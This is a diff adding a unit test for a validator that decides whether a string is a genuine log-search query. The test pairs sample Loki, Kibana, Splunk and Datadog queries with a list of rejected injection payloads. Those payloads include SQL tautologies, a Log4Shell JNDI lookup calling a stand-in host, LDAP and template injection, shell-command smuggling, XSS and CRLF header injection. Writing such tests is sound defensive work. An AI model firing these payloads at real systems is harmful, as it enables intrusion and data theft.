@@ -1,0 +1,64 @@
+import { describe, expect, it } from 'vitest';
+import { isLogSearch } from '../../src/model/log-search.js';
+
+// Searches as operators write them in Grafana/Loki, Kibana, Splunk and Datadog, for the strings probes send.
+const SEARCHES = [
+  '{app="nginx"} |= "/etc/passwd"',
+  '{app="php-fpm", namespace="prod"} |= "/etc/passwd" | json | status >= 500',
+  'sum by (status) (count_over_time({app="api"} |= "/.git/config" [5m]))',
+  '{job="varlogs"} |~ "error|timeout" != "healthz" | logfmt',
+  'message:"/etc/passwd" AND kubernetes.container.name:nginx',
+  'url.original:"/wp-login.php" AND NOT source.ip:10.0.0.1',
+  'level:(error OR warn) AND service:api',
+  'search index=main sourcetype=access_combined "/etc/passwd" | stats count by clientip | sort -count',
+  'search index=web sourcetype=nginx:plus:access "/.git/config" | stats count by clientip | sort -count',
+  'service:api @http.url_details.path:"/etc/passwd" status:error',
+];
+
+// Injections into a search field, and values that are no log search: a path alone, words, a tautology, a
+// breakout, a template, an LDAP filter, a stage that runs something.
+const NOT_SEARCHES = [
+  '/etc/passwd',
+  '"/etc/passwd"',
+  'connection refused',
+  "x' or 1=1--",
+  'x" OR "1"="1',
+  '1 AND 1=1',
+  'x OR x=x',
+  '{{7*7}}',
+  '${jndi:ldap://x.example/a}',
+  '*)(uid=*))(|(uid=*',
+  'admin)(|(password=*)',
+  'a | cat /etc/passwd',
+  '"/etc/passwd" | runshellscript x',
+  'search "x" | script python y',
+  'index=main | eval x=1',
+  'q:"../../etc/passwd"',
+  'file:/etc/passwd AND x:y',
+  'a;id',
+  '<script>alert(1)</script>',
+  '{app="x"} |= "a" | line_format "{{.x}}"',
+  'a:1 union select password from users',
+  "message:\"a\" AND user:'admin'",
+  'message:"a"\nAND x:y',
+  'message:"a" AND x:$(id)',
+  // The shared corpora's probes that a first version read as one `name:value` term (a scheme, a chain, a call).
+  'http:0xd83ad6ce',
+  'http:www.whitelisteddomain.tld@0xd8.0x3a.0xd6.0xce',
+  'https:google.com',
+  'javascript:alert(1)',
+  'style=xss:expression(alert(1))',
+  '%0D%0ASet-cookie:crlf=injection',
+  'Set-cookie:crlf=injection',
+  'c:windowswin.ini',
+];
+
+describe('isLogSearch', () => {
+  it.each(SEARCHES)('reads %s as a log search', (s) => {
+    expect(isLogSearch(s)).toBe(true);
+  });
+
+  it.each(NOT_SEARCHES)('does not read %s as one', (s) => {
+    expect(isLogSearch(s)).toBe(false);
+  });
+});
